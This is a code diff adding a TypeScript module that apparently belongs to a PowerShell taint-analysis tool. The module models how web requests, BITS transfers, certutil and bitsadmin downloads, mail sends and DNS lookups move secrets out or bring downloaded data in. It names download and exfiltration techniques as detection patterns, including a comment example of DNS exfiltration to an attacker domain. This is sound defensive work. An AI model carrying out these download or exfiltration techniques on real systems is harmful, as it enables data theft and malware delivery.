@@ -1,0 +1,180 @@
+import type { Node } from 'web-tree-sitter';
+import type { Taint, Value } from '../../facts.js';
+import { concat, literal, tainted } from '../values.js';
+import { readFrom, writeTo } from './cmd-files.js';
+import { arg, type CmdHandler, param } from './commands.js';
+import { newObject } from './dotnet.js';
+import { endpointOf } from './endpoints.js';
+import type { PsInterp } from './interp.js';
+import { data, itemsOf, opaque, type PsVal, ph, staticText, toValue } from './psval.js';
+
+/**
+ * The network from PowerShell: `Invoke-WebRequest`/`iwr`/`curl`/`wget`, `Invoke-RestMethod`/`irm`,
+ * `Start-BitsTransfer`, `certutil -urlcache`, `bitsadmin /transfer`, `Send-MailMessage`,
+ * `Resolve-DnsName`. A request with a body (or data in its URL or custom headers) is a `send`; one
+ * without is a `fetch` whose response is `download`-tainted; `-OutFile` remembers the file it wrote.
+ */
+
+const SENSITIVE: readonly Taint[] = ['secret', 'system-info', 'conversation'];
+
+/** Data about the user, the machine or the session (a secret, host facts, the conversation). */
+export function isSensitive(v: Value): boolean {
+  return v.taints.some((t) => SENSITIVE.includes(t)) || v.secret !== undefined;
+}
+
+const AUTH_HEADERS =
+  /^(?:authorization|proxy-authorization|x-api-key|api-key|x-auth-token|private-token|cookie|user-agent|content-type|accept)$/i;
+
+function headerData(headers: PsVal | undefined): Value | undefined {
+  if (headers?.k !== 'hash') return undefined;
+  const parts = [...headers.props]
+    .filter(([k]) => !AUTH_HEADERS.test(k))
+    .map(([, v]) => toValue(v))
+    .filter(isSensitive);
+  return parts.length ? concat(parts) : undefined;
+}
+
+/** The downloaded response of `url`. */
+export function downloaded(url: string, tool: string): PsVal {
+  return data(tainted(literal(`\${${tool}-response}`), 'download', { from: url }));
+}
+
+export interface HttpParts {
+  body?: PsVal;
+  headers?: PsVal;
+  outFile?: PsVal;
+}
+
+/** One HTTP request: `send` with its data, or `fetch` (to `outFile` when given). */
+export function httpCall(
+  ix: PsInterp,
+  node: Node,
+  tool: string,
+  urlVal: PsVal | undefined,
+  o: HttpParts,
+): PsVal {
+  const url = toValue(urlVal);
+  const endpoint = endpointOf(ix, url.text);
+  const parts: Value[] = [];
+  const body = o.body ? toValue(o.body) : undefined;
+  if (body && body.text !== '') parts.push(body);
+  const hd = headerData(o.headers);
+  if (hd) parts.push(hd);
+  if (!url.literal && isSensitive(url)) parts.push(url);
+  const out = downloaded(url.text, tool);
+  if (parts.length) ix.emit({ kind: 'send', endpoint, channel: 'http', data: concat(parts) }, node);
+  else {
+    const file = o.outFile ? toValue(o.outFile).text : undefined;
+    ix.emit({ kind: 'fetch', endpoint, tool, ...(file ? { file } : {}) }, node);
+  }
+  if (o.outFile) writeTo(ix, toValue(o.outFile), out, false, node);
+  return out;
+}
+
+const webRequest: CmdHandler = (ix, c) => {
+  const inFile = param(c, 'InFile');
+  const body =
+    param(c, 'Body') ??
+    (inFile ? readFrom(ix, inFile, c.node) : undefined) ??
+    (c.input && /post|put|patch/i.test(staticText(param(c, 'Method')) ?? '') ? c.input : undefined);
+  const tool = c.name === 'invoke-restmethod' ? 'Invoke-RestMethod' : 'Invoke-WebRequest';
+  return httpCall(ix, c.node, tool, arg(c, 0, 'Uri', 'Url'), {
+    ...(body ? { body } : {}),
+    ...(param(c, 'Headers') ? { headers: param(c, 'Headers')! } : {}),
+    ...(param(c, 'OutFile') ? { outFile: param(c, 'OutFile')! } : {}),
+  });
+};
+
+const bitsTransfer: CmdHandler = (ix, c) => {
+  const source = arg(c, 0, 'Source');
+  const dest = arg(c, 1, 'Destination');
+  // An upload (`-TransferType Upload`) sends the local file named in -Source to -Destination.
+  if (/^upload/i.test(staticText(param(c, 'TransferType')) ?? '')) {
+    const content = readFrom(ix, source, c.node);
+    return httpCall(ix, c.node, 'Start-BitsTransfer', dest, { body: content });
+  }
+  return httpCall(ix, c.node, 'Start-BitsTransfer', source, dest ? { outFile: dest } : {});
+};
+
+const words = (c: Parameters<CmdHandler>[1]): string[] => [
+  ...c.positional.flatMap((p) => itemsOf(p.v).map((v) => toValue(v).text)),
+  ...c.named.flatMap((n) => [`-${n.name}`, ...(n.v ? [toValue(n.v).text] : [])]),
+];
+
+/** `certutil -urlcache -split -f <url> <file>` downloads; `certutil -decode <in> <out>` decodes base64. */
+const certutil: CmdHandler = (ix, c) => {
+  const w = words(c);
+  const url = w.find((x) => /^(?:https?|ftp):\/\//i.test(x));
+  if (url) {
+    const file = w[w.indexOf(url) + 1];
+    return httpCall(ix, c.node, 'certutil', data(literal(url)), file ? { outFile: data(literal(file)) } : {});
+  }
+  const dec = w.findIndex((x) => /^[-/]decode(?:hex)?$/i.test(x));
+  if (dec >= 0 && w[dec + 2]) {
+    const input = readFrom(ix, data(literal(w[dec + 1]!)), c.node);
+    ix.emit(
+      { kind: 'decode', scheme: /hex/i.test(w[dec]!) ? 'hex' : 'base64', input: toValue(input) },
+      c.node,
+    );
+    writeTo(ix, literal(w[dec + 2]!), data(tainted(toValue(input), 'decoded')), false, c.node);
+  }
+  return opaque('output');
+};
+
+const bitsadmin: CmdHandler = (ix, c) => {
+  const w = words(c);
+  const url = w.find((x) => /^(?:https?|ftp):\/\//i.test(x));
+  if (!url) return opaque('output');
+  const file = w[w.indexOf(url) + 1];
+  return httpCall(ix, c.node, 'bitsadmin', data(literal(url)), file ? { outFile: data(literal(file)) } : {});
+};
+
+const sendMail: CmdHandler = (ix, c) => {
+  const attachments = itemsOf(param(c, 'Attachments')).map((a) => toValue(readFrom(ix, a, c.node)));
+  const body = param(c, 'Body');
+  const server = toValue(param(c, 'SmtpServer'));
+  const parts = [...attachments, ...(body ? [toValue(body)] : [])];
+  ix.emit(
+    {
+      kind: 'send',
+      endpoint: endpointOf(ix, server.text),
+      channel: 'mail',
+      data: parts.length ? concat(parts) : literal(''),
+    },
+    c.node,
+  );
+  return opaque('output');
+};
+
+/** `Resolve-DnsName "$secret.attacker.tld"` sends data in the name; TXT records bring data in. */
+export function dnsQuery(ix: PsInterp, name: Value, txt: boolean, node: Node, tool: string): PsVal {
+  const suffix = name.text.replace(/^[\s\S]*\}\.?/, '');
+  if (!name.literal && isSensitive(name))
+    ix.emit({ kind: 'send', endpoint: endpointOf(ix, suffix), channel: 'dns', data: name }, node);
+  if (!txt) return opaque('address');
+  ix.emit({ kind: 'fetch', endpoint: endpointOf(ix, suffix), tool }, node);
+  return data(tainted(literal(ph('dns-txt')), 'download', { from: `dns://${name.text.slice(0, 200)}` }));
+}
+
+export const NET_COMMANDS: Record<string, CmdHandler> = {
+  'invoke-webrequest': webRequest,
+  'invoke-restmethod': webRequest,
+  'start-bitstransfer': bitsTransfer,
+  'send-mailmessage': sendMail,
+  'resolve-dnsname': (ix, c) =>
+    dnsQuery(
+      ix,
+      toValue(arg(c, 0, 'Name')),
+      /^txt$/i.test(staticText(param(c, 'Type')) ?? ''),
+      c.node,
+      'Resolve-DnsName',
+    ),
+  'new-object': (ix, c) => {
+    const com = param(c, 'ComObject');
+    const type = staticText(com ?? arg(c, 0, 'TypeName')) ?? '';
+    const list = param(c, 'ArgumentList') ?? c.positional[com ? 0 : 1]?.v;
+    return newObject(ix, type, itemsOf(list), c.node);
+  },
+  certutil,
+  bitsadmin,
+};
